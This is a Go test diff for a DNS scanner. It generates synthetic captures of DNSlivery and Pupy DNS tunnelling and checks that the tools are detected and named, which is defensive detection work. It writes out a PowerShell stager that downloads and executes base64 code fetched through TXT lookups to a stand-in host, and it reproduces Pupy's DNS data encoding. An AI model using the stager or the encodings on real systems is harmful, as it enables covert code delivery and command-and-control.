@@ -3,9 +3,11 @@ package scan
 import (
 	"bufio"
 	"encoding/base32"
+	"encoding/base64"
 	"encoding/hex"
 	"encoding/json"
 	"fmt"
+	"maps"
 	"math/rand/v2"
 	"net/netip"
 	"os"
@@ -20,10 +22,6 @@ import (
 	"github.com/dnsieve/dnsieve/internal/testcap"
 )
 
-// tunnelFrames is an exfiltration over TXT queries to t1.exfil-test.net:
-// 300 names of base32 data, each answered with a TXT record, mixed with
-// ordinary lookups; the first 20 tunnel names are short and clean, so only
-// the engine can flag them.
 // scanInTimeOrder writes frames, sorted by time (stable), to a pcap named
 // name in dir and scans dir with the default configuration.
 func scanInTimeOrder(t *testing.T, dir, name string, frames []testcap.Frame) (Summary, string) {
@@ -42,6 +40,10 @@ func queryAnswer(at time.Time, c, srv netip.AddrPort, id uint16, name string, qt
 	}
 }
 
+// tunnelFrames is an exfiltration over TXT queries to t1.exfil-test.net:
+// 300 names of base32 data, each answered with a TXT record, mixed with
+// ordinary lookups; the first 20 tunnel names are short and clean, so only
+// the engine can flag them.
 func tunnelFrames(t *testing.T) []testcap.Frame {
 	t.Helper()
 	rng := rand.New(rand.NewPCG(11, 12))
@@ -845,5 +847,76 @@ func TestRawPacketsAmongMessages(t *testing.T) {
 	}
 	if stats.Total != 160 || stats.Engine.Messages != 120 || stats.Engine.RawMessages != 40 {
 		t.Fatalf("packets %d, engine messages %d and raw %d; want 160, 120 and 40", stats.Total, stats.Engine.Messages, stats.Engine.RawMessages)
+	}
+}
+
+// TestNamesDNSliveryAndPupy: a 6 KB file fetched with DNSlivery's stager
+// and a Pupy dnscnc session, beside office lookups, are found and named.
+// The encodings follow dnslivery.py and picocmd (client.py, server.py):
+// see internal/fingerprint/dnslivery.go and pupy.go.
+func TestNamesDNSliveryAndPupy(t *testing.T) {
+	dir := t.TempDir()
+	rng := rand.New(rand.NewPCG(5, 6))
+	random := func(n int) []byte {
+		b := make([]byte, n)
+		for i := range b {
+			b[i] = byte(rng.Uint32())
+		}
+		return b
+	}
+	base := time.Date(2026, 2, 3, 4, 5, 6, 0, time.UTC)
+	var frames []testcap.Frame
+	victim := netip.MustParseAddrPort("10.1.1.5:51000")
+	// DNSlivery: the stager, then the chunks it asks for.
+	file := base64.StdEncoding.EncodeToString(random(6000))
+	var chunks []string
+	for len(file) > 255 {
+		chunks, file = append(chunks, file[:255]), file[255:]
+	}
+	chunks = append(chunks, file)
+	stager := fmt.Sprintf(`IEX([System.Text.Encoding]::UTF8.GetString([System.Convert]::FromBase64String((0..%d | %% {Resolve-DnsName -type TXT -Name "update-ps1.$_.dl.cdn-files.net" | Where-Object Section -eq Answer | Select -ExpandProperty Strings}))))`, len(chunks)-1)
+	frames = append(frames, queryAnswer(base, victim, server, 1, "update-ps1.exec.dl.cdn-files.net", testcap.TypeTXT, 0, testcap.AnswerTXT(stager[:200], stager[200:]))...)
+	for i, c := range chunks {
+		at := base.Add(time.Duration(i+1) * 200 * time.Millisecond)
+		frames = append(frames, queryAnswer(at, victim, server, uint16(10+i), fmt.Sprintf("update-ps1.%d.dl.cdn-files.net", i), testcap.TypeTXT, 0, testcap.AnswerTXT(c))...)
+	}
+	// Pupy: protocol 2 queries (nonce and node block, then the data),
+	// each answered with a reply page.
+	// picocmd's translation of base32: A-Z to a-z, 2-7 to 1-6, '=' to '9'.
+	pupy := base32.NewEncoding("abcdefghijklmnopqrstuvwxyz123456").WithPadding('9').EncodeToString
+	implant := netip.MustParseAddrPort("10.1.1.9:52000")
+	for i := range 120 {
+		name := pupy(random(17)) + "." + pupy(random(6+rng.IntN(29))) + ".ns.pupy-update.com"
+		page := append([]byte{byte(5 + rng.IntN(40))}, random(45)...)
+		var answers []testcap.Answer
+		for idx := 0; idx*3 < int(page[0])+1; idx++ {
+			bits := (uint32(page[idx*3])<<16 | uint32(page[idx*3+1])<<8 | uint32(page[idx*3+2])) << 1
+			raw := uint32(1+rng.IntN(3))<<30 | uint32(idx)<<25 | bits
+			if bits&6 == 0 {
+				raw |= 1
+			}
+			answers = append(answers, testcap.AnswerAddr(netip.AddrFrom4([4]byte{byte(raw >> 24), byte(raw >> 16), byte(raw >> 8), byte(raw)})))
+		}
+		at := base.Add(time.Duration(i) * 30 * time.Second)
+		frames = append(frames, queryAnswer(at, implant, server, uint16(1000+i), name, typeA, 0, answers...)...)
+	}
+	// The office around them.
+	hosts := []string{"www.example.com", "mail.example.org", "login.microsoftonline.com", "api.github.com", "cdn.jsdelivr.net", "news.bbc.co.uk"}
+	for i := range 600 {
+		c := netip.AddrPortFrom(netip.AddrFrom4([4]byte{10, 1, 2, byte(1 + rng.IntN(40))}), 40000)
+		at := base.Add(time.Duration(i) * 6 * time.Second)
+		frames = append(frames, queryAnswer(at, c, server, uint16(3000+i), hosts[rng.IntN(len(hosts))], typeA, 0, testcap.AnswerAddr(netip.AddrFrom4([4]byte{203, 0, 113, byte(i % 200)})))...)
+	}
+	sum, _ := scanInTimeOrder(t, dir, "tools.pcap", frames)
+	got := map[string]string{}
+	for _, f := range sum.Findings {
+		if f.Severity < engine.SeverityMedium {
+			t.Errorf("%s: %v", f.Domain, f.Severity)
+		}
+		got[f.Domain] = f.Tool
+	}
+	want := map[string]string{"dl.cdn-files.net": "dnslivery", "ns.pupy-update.com": "pupy"}
+	if !maps.Equal(got, want) {
+		t.Fatalf("findings and tools %v, want %v", got, want)
 	}
 }
